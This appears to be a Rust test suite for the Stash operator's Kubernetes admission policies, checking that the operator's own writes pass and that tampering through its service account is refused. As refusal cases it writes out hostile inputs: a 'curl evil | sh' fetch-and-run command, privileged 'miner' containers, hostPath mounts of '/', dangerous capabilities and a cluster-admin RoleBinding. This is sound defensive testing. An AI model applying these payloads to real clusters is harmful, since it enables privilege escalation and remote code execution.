//! The install's ValidatingAdmissionPolicies, evaluated on their own CEL (the
//! `cel` crate, through the testkit's `stash_testkit::policy`; the policies
//! use standard CEL only) over a table of requests they must admit or
//! refuse: the reconciler's real sidecar injection and removal (from `stash::sidecar::plan`) and the CronJob, ServiceAccount and
//! RoleBindings `reconcile::desired` builds pass; anything else the server's
//! identity might be made to write does not; other users are never matched.

use k8s_openapi::api::admissionregistration::v1::ValidatingAdmissionPolicy;
use serde_json::{Value, json};
use stash::api::{BackupConfiguration, Repository};
use stash::manifests::{Object, Options, objects};
use stash::reconcile::desired;
use stash::settings::Settings;
use stash::sidecar::plan;
use stash::store::Snapshot;
use stash_testkit::policy as vap;

const SERVER: &str = "system:serviceaccount:stash-system:stash-webhook";

fn policy(name: &str) -> ValidatingAdmissionPolicy {
    policy_for(name, &Options::default())
}

/// The policy as rendered for `options` (e.g. another image).
fn policy_for(name: &str, options: &Options) -> ValidatingAdmissionPolicy {
    objects(options)
        .expect("render")
        .into_iter()
        .find_map(|o| match o {
            Object::ValidatingAdmissionPolicy(p) if p.metadata.name.as_deref() == Some(name) => {
                Some(p)
            }
            _ => None,
        })
        .unwrap_or_else(|| panic!("ValidatingAdmissionPolicy {name}"))
}

/// What the API server would answer (the testkit's evaluator,
/// `stash_testkit::policy`): `None` when the policy does not match the
/// request, otherwise the messages of the failed validations.
fn admit(
    p: &ValidatingAdmissionPolicy,
    user: &str,
    resource: &str,
    operation: &str,
    object: &Value,
    old: Option<&Value>,
) -> Option<Vec<String>> {
    let request = vap::Request::by_user(user, operation, object, old);
    assert_eq!(request.resource, resource, "the object's own resource");
    vap::evaluate(p, &request).map(|failures| failures.into_iter().map(|f| f.message).collect())
}

fn deployment() -> Value {
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "app", "namespace": "demo", "resourceVersion": "7", "generation": 3,
                     "labels": {"app": "app"}, "annotations": {"owner": "team"}},
        "spec": {
            "replicas": 2,
            "selector": {"matchLabels": {"app": "app"}},
            "template": {
                "metadata": {"labels": {"app": "app"}},
                "spec": {
                    "containers": [{"name": "app", "image": "nginx:1",
                                    "volumeMounts": [{"name": "data", "mountPath": "/source/data"}]}],
                    "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "data"}}]
                }
            }
        },
        "status": {"replicas": 2}
    })
}

fn config() -> BackupConfiguration {
    serde_json::from_value(json!({
        "apiVersion": "stash.appscode.com/v1beta1", "kind": "BackupConfiguration",
        "metadata": {"name": "bc", "namespace": "demo", "uid": "u-1"},
        "spec": {
            "repository": {"name": "repo"},
            "schedule": "*/5 * * * *",
            "target": {"ref": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "app"},
                       "volumeMounts": [{"name": "data", "mountPath": "/source/data"}],
                       "paths": ["/source/data"]},
            "retentionPolicy": {"name": "keep", "keepLast": 5, "prune": true}
        }
    }))
    .expect("BackupConfiguration")
}

fn snapshot(with_config: bool) -> Snapshot {
    let mut snap = Snapshot::default();
    if with_config {
        snap.upsert_config(config());
    }
    let repo: Repository = serde_json::from_value(json!({
        "apiVersion": "stash.appscode.com/v1alpha1", "kind": "Repository",
        "metadata": {"name": "repo", "namespace": "demo"},
        "spec": {"backend": {"gcs": {"bucket": "b", "prefix": "/p"}, "storageSecretName": "gcs-secret"}}
    }))
    .expect("Repository");
    snap.upsert_repository(repo);
    snap
}

/// The workload after the reconciler's plan for it.
fn planned(workload: &Value, with_config: bool) -> Value {
    let p = plan(workload, &snapshot(with_config), &Settings::default());
    assert!(!p.ops.is_empty(), "the plan changes the workload");
    let mut out = workload.clone();
    json_patch::patch(&mut out, &p.ops).expect("the plan applies");
    // What the API server changes on any write.
    out["metadata"]["resourceVersion"] = json!("8");
    out["metadata"]["generation"] = json!(4);
    out
}

fn workloads(user: &str, new: &Value, old: &Value) -> Option<Vec<String>> {
    admit(
        &policy("stash-webhook-workloads"),
        user,
        "deployments",
        "UPDATE",
        new,
        Some(old),
    )
}

fn accepted(answer: Option<Vec<String>>) {
    assert_eq!(answer, Some(vec![]), "must be matched and admitted");
}

fn refused(answer: Option<Vec<String>>, why: &str) {
    let messages = answer.expect("must be matched");
    assert!(
        messages.iter().any(|m| m.contains(why)),
        "refused because {why:?}, got {messages:?}"
    );
}

#[test]
fn the_reconcilers_injection_and_removal_are_admitted() {
    let old = deployment();
    let injected = planned(&old, true);
    assert!(stash::sidecar::has_sidecar(&injected["spec"]["template"]));
    accepted(workloads(SERVER, &injected, &old));
    // The user scales it meanwhile; then the configuration goes: removal.
    let mut scaled = injected.clone();
    scaled["spec"]["replicas"] = json!(3);
    let removed = planned(&scaled, false);
    assert!(!stash::sidecar::has_sidecar(&removed["spec"]["template"]));
    accepted(workloads(SERVER, &removed, &scaled));
}

/// An edit of the injected workload.
type Change = Box<dyn Fn(&mut Value)>;

#[test]
fn anything_else_on_a_workload_is_refused() {
    let old = deployment();
    let injected = planned(&old, true);
    let cases: Vec<(&str, Change, &str)> = vec![
        (
            "a user container's image",
            Box::new(|w| w["spec"]["template"]["spec"]["containers"][0]["image"] = json!("evil:1")),
            "only the container named stash",
        ),
        (
            "a new privileged container",
            Box::new(|w| {
                w["spec"]["template"]["spec"]["containers"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "miner", "image": "evil:1", "securityContext": {"privileged": true}}))
            }),
            "only the container named stash",
        ),
        (
            "a privileged stash container",
            Box::new(|w| {
                for c in w["spec"]["template"]["spec"]["containers"]
                    .as_array_mut()
                    .unwrap()
                {
                    if c["name"] == "stash" {
                        c["securityContext"] = json!({"privileged": true});
                    }
                }
            }),
            "unprivileged",
        ),
        (
            "a stash container with another image",
            Box::new(|w| {
                for c in w["spec"]["template"]["spec"]["containers"]
                    .as_array_mut()
                    .unwrap()
                {
                    if c["name"] == "stash" {
                        c["image"] = json!("evil:1");
                    }
                }
            }),
            "stash image",
        ),
        (
            "a stash init container running a shell",
            Box::new(|w| {
                w["spec"]["template"]["spec"]["initContainers"] = json!([{
                    "name": "stash-init", "image": stash::settings::DEFAULT_IMAGE, "command": ["sh", "-c", "id"]}])
            }),
            "entrypoint",
        ),
        (
            "a hostPath stash volume",
            Box::new(|w| {
                w["spec"]["template"]["spec"]["volumes"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "stash-root", "hostPath": {"path": "/"}}))
            }),
            "the only stash volume that may be a hostPath",
        ),
        (
            "the scratch volume on a hostPath",
            Box::new(|w| {
                for v in w["spec"]["template"]["spec"]["volumes"]
                    .as_array_mut()
                    .unwrap()
                {
                    if v["name"] == "tmp-dir" {
                        *v = json!({"name": "tmp-dir", "hostPath": {"path": "/"}});
                    }
                }
            }),
            "the only stash volume that may be a hostPath",
        ),
        (
            "a user volume",
            Box::new(|w| {
                w["spec"]["template"]["spec"]["volumes"][0] =
                    json!({"name": "data", "hostPath": {"path": "/"}})
            }),
            "stash-* and tmp-dir volumes",
        ),
        (
            "the service account",
            Box::new(|w| w["spec"]["template"]["spec"]["serviceAccountName"] = json!("admin")),
            "only containers, init containers and volumes",
        ),
        (
            "host networking",
            Box::new(|w| w["spec"]["template"]["spec"]["hostNetwork"] = json!(true)),
            "only containers, init containers and volumes",
        ),
        (
            "the replicas",
            Box::new(|w| w["spec"]["replicas"] = json!(0)),
            "only the pod template",
        ),
        (
            "a user annotation",
            Box::new(|w| w["metadata"]["annotations"]["owner"] = json!("mallory")),
            "only the stash.appscode.com/ annotations of a workload",
        ),
        (
            "a label",
            Box::new(|w| w["metadata"]["labels"]["app"] = json!("other")),
            "no metadata",
        ),
        (
            "a pod template label",
            Box::new(|w| w["spec"]["template"]["metadata"]["labels"]["extra"] = json!("1")),
            "annotations of a pod template",
        ),
    ];
    for (what, change, why) in cases {
        let mut new = injected.clone();
        change(&mut new);
        let answer = workloads(SERVER, &new, &old);
        assert!(
            answer
                .as_ref()
                .is_some_and(|m| m.iter().any(|m| m.contains(why))),
            "{what}: expected a refusal mentioning {why:?}, got {answer:?}"
        );
        // Anyone else: the policy does not even match.
        assert_eq!(
            workloads("system:serviceaccount:demo:deployer", &new, &old),
            None,
            "{what}"
        );
        assert_eq!(workloads("kubernetes-admin", &new, &old), None, "{what}");
    }
    // Stash annotations alone are stash's.
    let mut annotated = old.clone();
    annotated["metadata"]["annotations"]["stash.appscode.com/x"] = json!("1");
    accepted(workloads(SERVER, &annotated, &old));
}

fn owned(resource: &str, object: &Value) -> Option<Vec<String>> {
    admit(
        &policy("stash-webhook-owned"),
        SERVER,
        resource,
        "CREATE",
        object,
        None,
    )
}

#[test]
fn the_reconcilers_own_objects_are_admitted() {
    let bc = config();
    let image = stash::settings::DEFAULT_IMAGE;
    let mut cj = serde_json::to_value(desired::cronjob(&bc, image).expect("CronJob")).unwrap();
    // As the API server stores it: defaulted (serviceAccount, dnsPolicy,
    // imagePullPolicy, terminationMessagePath, …) before the policy runs.
    stash_testkit::defaults::apply("batch", "cronjobs", &mut cj);
    assert_eq!(
        cj.pointer("/spec/jobTemplate/spec/template/spec/serviceAccount"),
        cj.pointer("/spec/jobTemplate/spec/template/spec/serviceAccountName")
    );
    accepted(owned("cronjobs", &cj));
    accepted(admit(
        &policy("stash-webhook-owned"),
        SERVER,
        "cronjobs",
        "UPDATE",
        &cj,
        Some(&cj),
    ));
    let sa = serde_json::to_value(desired::cron_service_account(&bc)).unwrap();
    accepted(owned("serviceaccounts", &sa));
    let rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
    accepted(owned("rolebindings", &rb));
    let rb = serde_json::to_value(desired::sidecar_role_binding(
        &bc,
        "Deployment",
        "app",
        "default",
    ))
    .unwrap();
    accepted(owned("rolebindings", &rb));
    // The RestoreSession controller's binding for stash-init's ServiceAccount
    // (once refused: only stash-sidecar-* names were allowed that role).
    let rs: stash::api::RestoreSession = serde_json::from_value(json!({
        "apiVersion": "stash.appscode.com/v1beta1", "kind": "RestoreSession",
        "metadata": {"name": "restore", "namespace": "demo", "uid": "u-2"},
        "spec": {"repository": {"name": "repo"},
                 "target": {"ref": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "app"}}}
    }))
    .expect("RestoreSession");
    let rb = serde_json::to_value(stash::reconcile::restore_session::init_role_binding(
        &rs,
        "Deployment",
        "app",
        "default",
    ))
    .unwrap();
    accepted(owned("rolebindings", &rb));
}

#[test]
fn other_cron_jobs_service_accounts_and_role_bindings_are_refused() {
    let bc = config();
    let image = stash::settings::DEFAULT_IMAGE;
    let cj = serde_json::to_value(desired::cronjob(&bc, image).expect("CronJob")).unwrap();
    let pod = "/spec/jobTemplate/spec/template/spec";
    let container = format!("{pod}/containers/0");
    let edit = |path: &str, value: Value| {
        let mut o = cj.clone();
        *o.pointer_mut(path).unwrap_or_else(|| panic!("{path}")) = value;
        o
    };
    let mut hostpath = cj.clone();
    hostpath.pointer_mut(pod).unwrap()["volumes"] =
        json!([{"name": "root", "hostPath": {"path": "/"}}]);
    let mut host_network = cj.clone();
    host_network.pointer_mut(pod).unwrap()["hostNetwork"] = json!(true);
    let mut privileged = cj.clone();
    privileged.pointer_mut(&container).unwrap()["securityContext"] = json!({"privileged": true});
    let mut command = cj.clone();
    command.pointer_mut(&container).unwrap()["command"] = json!(["sh", "-c", "curl evil | sh"]);
    let mut service_account = cj.clone();
    service_account.pointer_mut(pod).unwrap()["serviceAccount"] = json!("default");
    let mut init = cj.clone();
    init.pointer_mut(pod).unwrap()["initContainers"] = json!([{"name": "x", "image": "evil:1"}]);
    let mut mounts = cj.clone();
    mounts.pointer_mut(&container).unwrap()["volumeMounts"] =
        json!([{"name": "root", "mountPath": "/host"}]);
    let mut capabilities = cj.clone();
    capabilities.pointer_mut(&container).unwrap()["securityContext"] =
        json!({"capabilities": {"add": ["SYS_ADMIN"]}});
    let mut host_process = cj.clone();
    host_process.pointer_mut(pod).unwrap()["securityContext"] =
        json!({"windowsOptions": {"hostProcess": true}});
    let mut second = cj.clone();
    let first = second.pointer(&container).unwrap().clone();
    second
        .pointer_mut(&format!("{pod}/containers"))
        .unwrap()
        .as_array_mut()
        .unwrap()
        .push(first);
    const NAMED: &str = "named stash-backup-* that run as their own ServiceAccount";
    const RUNS: &str = "runs one container: the stash image's create-backupsession";
    const POD: &str = "pod has no volumes, init or ephemeral containers, host namespaces";
    let cases = [
        (
            "another image",
            edit(&format!("{container}/image"), json!("evil:1")),
            RUNS,
        ),
        ("another command", command, RUNS),
        (
            "other args",
            edit(&format!("{container}/args"), json!(["serve"])),
            RUNS,
        ),
        ("a second container", second, RUNS),
        ("a volume mount", mounts, RUNS),
        ("a privileged container", privileged, RUNS),
        ("an added capability", capabilities, RUNS),
        (
            "another name",
            edit("/metadata/name", json!("miner")),
            NAMED,
        ),
        (
            "another service account",
            edit(&format!("{pod}/serviceAccountName"), json!("default")),
            NAMED,
        ),
        ("another deprecated serviceAccount", service_account, NAMED),
        ("a hostPath volume", hostpath, POD),
        ("host networking", host_network, POD),
        ("an init container", init, POD),
        ("a Windows host process", host_process, POD),
    ];
    for (what, object, why) in cases {
        let answer = owned("cronjobs", &object);
        assert!(
            answer
                .as_ref()
                .is_some_and(|m| m.iter().any(|m| m.contains(why))),
            "{what}: expected a refusal mentioning {why:?}, got {answer:?}"
        );
    }

    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
    rb["roleRef"]["name"] = json!("cluster-admin");
    refused(owned("rolebindings", &rb), "RoleBindings");
    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
    rb["subjects"] = json!([{"kind": "User", "name": "mallory"}]);
    refused(owned("rolebindings", &rb), "RoleBindings");
    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
    rb["subjects"][0]["namespace"] = json!("kube-system");
    refused(owned("rolebindings", &rb), "RoleBindings");

    let mut sa = serde_json::to_value(desired::cron_service_account(&bc)).unwrap();
    sa["metadata"]["name"] = json!("default");
    refused(owned("serviceaccounts", &sa), "ServiceAccounts");

    // Another user's CronJob or RoleBinding is not the policy's business.
    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
    rb["roleRef"]["name"] = json!("cluster-admin");
    assert_eq!(
        admit(
            &policy("stash-webhook-owned"),
            "kubernetes-admin",
            "rolebindings",
            "CREATE",
            &rb,
            None
        ),
        None
    );
}

/// A file of `tests/fixtures/real-apiserver/installed/`: what kube-apiserver
/// v1.36.2 stored when the install was applied as is.
fn stored(file: &str) -> Value {
    let path = stash_testkit::repo_root()
        .join("tests/fixtures/real-apiserver/installed")
        .join(file);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path:?}: {e}"))
}

/// The install the real cluster ran: `stash manifests --image stash:dev`.
fn installed() -> Options {
    Options {
        image: "stash:dev".into(),
        ..Options::default()
    }
}

#[test]
fn the_cronjob_as_a_real_api_server_stores_it_is_admitted() {
    // The API server validates the object after its defaulting: the pod
    // template gained `serviceAccount`, `dnsPolicy`, `schedulerName`,
    // `securityContext: {}`, and the container `imagePullPolicy`,
    // `terminationMessagePath`, `resources: {}`. The policy once refused
    // exactly this object (an allow-list of pod fields without
    // `serviceAccount`), so no scheduled backup ever ran.
    let cj = stored("cronjob-as-stored.json");
    let p = policy_for("stash-webhook-owned", &installed());
    for (operation, old) in [("CREATE", None), ("UPDATE", Some(&cj))] {
        accepted(admit(&p, SERVER, "cronjobs", operation, &cj, old));
    }
    // Whatever else a later release may default in a pod template or a
    // container is no reason to refuse it.
    let mut later = cj.clone();
    let pod = later
        .pointer_mut("/spec/jobTemplate/spec/template/spec")
        .unwrap();
    pod["enableServiceLinks"] = json!(true);
    pod["hostUsers"] = json!(true);
    pod["containers"][0]["resizePolicy"] =
        json!([{"resourceName": "cpu", "restartPolicy": "NotRequired"}]);
    accepted(admit(&p, SERVER, "cronjobs", "CREATE", &later, None));
}

#[test]
fn the_sidecar_patch_as_a_real_api_server_stores_it_is_admitted() {
    // The guide's Deployment after the reconciler back-filled the sidecar;
    // the old object is the same Deployment without the stash parts.
    let injected = stored("deployment-gcs-injected-as-stored.json");
    let mut old = injected.clone();
    let pod = old.pointer_mut("/spec/template/spec").unwrap();
    pod["containers"]
        .as_array_mut()
        .unwrap()
        .retain(|c| c["name"] != "stash");
    pod["volumes"]
        .as_array_mut()
        .unwrap()
        .retain(|v| v["name"] == "source-data");
    old["spec"]["template"]["metadata"]
        .as_object_mut()
        .unwrap()
        .remove("annotations");
    old["metadata"]["annotations"]
        .as_object_mut()
        .unwrap()
        .retain(|k, _| !k.starts_with("stash.appscode.com/"));
    let p = policy_for("stash-webhook-workloads", &installed());
    accepted(admit(
        &p,
        SERVER,
        "deployments",
        "UPDATE",
        &injected,
        Some(&old),
    ));
}

#[test]
fn a_local_backend_on_a_hostpath_gets_its_sidecar() {
    // `/validate/repositories` admits a local backend on a hostPath, so the
    // reconciler's patch for it must pass too (it once was refused: "a stash
    // volume is never a hostPath").
    let repo: Repository = serde_json::from_value(json!({
        "apiVersion": "stash.appscode.com/v1alpha1", "kind": "Repository",
        "metadata": {"name": "repo", "namespace": "demo"},
        "spec": {"backend": {"local": {"mountPath": "/safe/data", "hostPath": {"path": "/data/stash-repo"}},
                              "storageSecretName": "local-secret"}}
    }))
    .expect("Repository");
    let mut snap = Snapshot::default();
    snap.upsert_config(config());
    snap.upsert_repository(repo);
    let old = deployment();
    let p = plan(&old, &snap, &Settings::default());
    let mut injected = old.clone();
    json_patch::patch(&mut injected, &p.ops).expect("the plan applies");
    assert!(
        injected.to_string().contains("\"stash-local-backend\""),
        "the plan mounts the local backend: {injected}"
    );
    injected["metadata"]["resourceVersion"] = json!("8");
    accepted(workloads(SERVER, &injected, &old));
}

/// A Deployment whose pod and `app` container carry these securityContexts
/// (`null`: none), as the API server stores it (defaulted).
fn secured_deployment(pod: Value, container: Value) -> Value {
    let mut w = deployment();
    if !pod.is_null() {
        w["spec"]["template"]["spec"]["securityContext"] = pod;
    }
    if !container.is_null() {
        w["spec"]["template"]["spec"]["containers"][0]["securityContext"] = container;
    }
    stash_testkit::defaults::apply("apps", "deployments", &mut w);
    w
}

/// A snapshot with the configuration and a RestoreSession for `app`, each
/// with `user` as its `runtimeSettings.container.securityContext`.
fn snapshot_with_restore(user: &Value) -> Snapshot {
    let mut snap = snapshot(false);
    let mut bc = serde_json::to_value(config()).unwrap();
    let mut rs = json!({
        "apiVersion": "stash.appscode.com/v1beta1", "kind": "RestoreSession",
        "metadata": {"name": "restore", "namespace": "demo", "uid": "u-2"},
        "spec": {"repository": {"name": "repo"},
                 "target": {"ref": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "app"},
                            "volumeMounts": [{"name": "data", "mountPath": "/source/data"}]}}
    });
    if !user.is_null() {
        let rt = json!({"container": {"securityContext": user}});
        bc["spec"]["runtimeSettings"] = rt.clone();
        rs["spec"]["runtimeSettings"] = rt;
    }
    snap.upsert_config(serde_json::from_value(bc).expect("BackupConfiguration"));
    snap.upsert_restore(serde_json::from_value(rs).expect("RestoreSession"));
    snap
}

/// `old` after the reconciler's sidecar plan and then the RestoreSession
/// controller's stash-init plan, as stored (defaulted, new resourceVersion).
fn planned_both(old: &Value, snap: &Snapshot) -> Value {
    let mut out = old.clone();
    let sidecar = plan(&out, snap, &Settings::default());
    json_patch::patch(&mut out, &sidecar.ops).expect("the sidecar plan applies");
    let init = stash::restore::init::plan(&out, snap, &Settings::default());
    json_patch::patch(&mut out, &init.ops).expect("the stash-init plan applies");
    stash_testkit::defaults::apply("apps", "deployments", &mut out);
    out["metadata"]["resourceVersion"] = json!("8");
    out["metadata"]["generation"] = json!(4);
    out
}

/// The securityContext of stash's container `name` in a planned workload.
fn stash_security(w: &Value, list: &str, name: &str) -> Value {
    w["spec"]["template"]["spec"][list]
        .as_array()
        .and_then(|cs| cs.iter().find(|c| c["name"] == name))
        .map(|c| c["securityContext"].clone())
        .unwrap_or_else(|| panic!("{name} planned"))
}

#[test]
fn each_privilege_case_of_stash_containers_is_admitted() {
    let hardened = |uid: i64, non_root: bool, add: Option<Vec<&str>>| {
        let mut caps = json!({"drop": ["ALL"]});
        if let Some(add) = add {
            caps["add"] = json!(add);
        }
        json!({"allowPrivilegeEscalation": false, "capabilities": caps,
               "runAsNonRoot": non_root, "runAsUser": uid,
               "seccompProfile": {"type": "RuntimeDefault"}})
    };
    let with_group = |mut sc: Value, gid: i64| {
        sc["runAsGroup"] = json!(gid);
        sc
    };
    let user = json!({"runAsUser": 999, "capabilities": {"add": ["DAC_READ_SEARCH"]}});
    // (case, pod securityContext, app's, user's choice, sidecar's, stash-init's)
    let cases = [
        (
            "1: the user's choice, verbatim",
            Value::Null,
            Value::Null,
            user.clone(),
            user.clone(),
            user.clone(),
        ),
        (
            "2: the app's user and group",
            json!({"runAsUser": 1000, "fsGroup": 999}),
            json!({"runAsUser": 999, "runAsGroup": 999}),
            Value::Null,
            with_group(hardened(999, true, None), 999),
            with_group(hardened(999, true, None), 999),
        ),
        (
            "3: non-root required, no user declared",
            json!({"runAsNonRoot": true}),
            Value::Null,
            Value::Null,
            with_group(hardened(65532, true, None), 65532),
            with_group(hardened(65532, true, None), 65532),
        ),
        (
            "4: may run as root",
            Value::Null,
            Value::Null,
            Value::Null,
            with_group(hardened(0, false, Some(vec!["DAC_OVERRIDE"])), 0),
            with_group(
                hardened(
                    0,
                    false,
                    Some(vec!["CHOWN", "DAC_OVERRIDE", "FOWNER", "FSETID"]),
                ),
                0,
            ),
        ),
    ];
    for (case, pod, app, user, sidecar, init) in cases {
        let old = secured_deployment(pod, app);
        let snap = snapshot_with_restore(&user);
        let new = planned_both(&old, &snap);
        assert_eq!(
            stash_security(&new, "containers", "stash"),
            sidecar,
            "{case}"
        );
        assert_eq!(
            stash_security(&new, "initContainers", "stash-init"),
            init,
            "{case}"
        );
        accepted(workloads(SERVER, &new, &old));
    }
}

#[test]
fn stash_containers_gain_no_other_privilege() {
    let old = secured_deployment(Value::Null, Value::Null);
    let snap = snapshot_with_restore(&Value::Null);
    let new = planned_both(&old, &snap);
    let edit = |list: &'static str, name: &'static str, f: fn(&mut Value)| {
        let mut w = new.clone();
        for c in w["spec"]["template"]["spec"][list].as_array_mut().unwrap() {
            if c["name"] == name {
                f(&mut c["securityContext"]);
            }
        }
        w
    };
    let why = "no capability added but CHOWN, DAC_OVERRIDE, DAC_READ_SEARCH, FOWNER, FSETID";
    let refusals: [(&str, Value); 5] = [
        (
            "SYS_ADMIN on the sidecar",
            edit("containers", "stash", |sc| {
                sc["capabilities"]["add"] = json!(["DAC_OVERRIDE", "SYS_ADMIN"])
            }),
        ),
        (
            "CAP_SYS_PTRACE on stash-init",
            edit("initContainers", "stash-init", |sc| {
                sc["capabilities"]["add"] = json!(["CAP_SYS_PTRACE"])
            }),
        ),
        (
            "escalation on the sidecar",
            edit("containers", "stash", |sc| {
                sc["allowPrivilegeEscalation"] = json!(true)
            }),
        ),
        (
            "a privileged stash-init",
            edit("initContainers", "stash-init", |sc| {
                sc["privileged"] = json!(true)
            }),
        ),
        (
            "NET_ADMIN on stash-init",
            edit("initContainers", "stash-init", |sc| {
                sc["capabilities"]["add"] = json!(["CHOWN", "NET_ADMIN"])
            }),
        ),
    ];
    for (what, w) in refusals {
        let answer = workloads(SERVER, &w, &old);
        assert!(
            answer
                .as_ref()
                .is_some_and(|m| m.iter().any(|m| m.contains(why))),
            "{what}: expected a refusal mentioning {why:?}, got {answer:?}"
        );
    }
    // The users' own narrower choice, with or without the CAP_ prefix.
    accepted(workloads(
        SERVER,
        &edit("containers", "stash", |sc| {
            sc["capabilities"]["add"] = json!(["CAP_DAC_READ_SEARCH"])
        }),
        &old,
    ));
}
